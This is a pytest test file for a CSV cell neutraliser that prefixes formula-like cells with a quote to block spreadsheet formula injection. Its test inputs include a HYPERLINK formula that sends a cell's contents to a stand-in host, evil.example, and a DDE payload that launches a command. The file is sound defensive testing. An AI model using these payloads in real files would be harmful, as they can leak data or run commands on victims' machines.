"""CSV cells a spreadsheet would run as formulas are written as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from afterview import csv_cells


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert csv_cells.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Northwind Robotics", "", "a=b", "50%", 42, -3, None])
def test_ordinary_text_and_numbers_are_left_alone(value: object) -> None:
    assert csv_cells.neutralise(value) == value


def test_the_writer_neutralises_every_cell_and_still_writes_valid_csv() -> None:
    out = io.StringIO()
    writer = csv_cells.writer(out, lineterminator="\n")
    writer.writerow(["company", "role"])
    writer.writerows([['=IMPORTXML("x", "y")', 'Engineer, "Platform"'], ["Acme", -1]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["company", "role"],
        ['\'=IMPORTXML("x", "y")', 'Engineer, "Platform"'],
        ["Acme", "-1"],
    ]
